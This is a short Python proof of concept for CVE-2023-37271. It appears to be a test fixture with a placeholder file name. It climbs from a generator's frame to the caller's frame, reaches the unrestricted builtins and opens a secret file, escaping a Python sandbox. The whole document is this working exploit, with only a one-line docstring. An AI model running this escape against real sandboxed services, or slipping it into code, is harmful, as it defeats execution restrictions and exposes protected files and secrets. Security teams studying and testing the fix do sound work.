"""A generator's frame leads to the caller's builtins (CVE-2023-37271)."""
def climb():
    yield generator.gi_frame.f_back
generator = climb()
frame = [x for x in generator][0]
print(frame.f_builtins["open"]("@SECRET_FILE@").read())
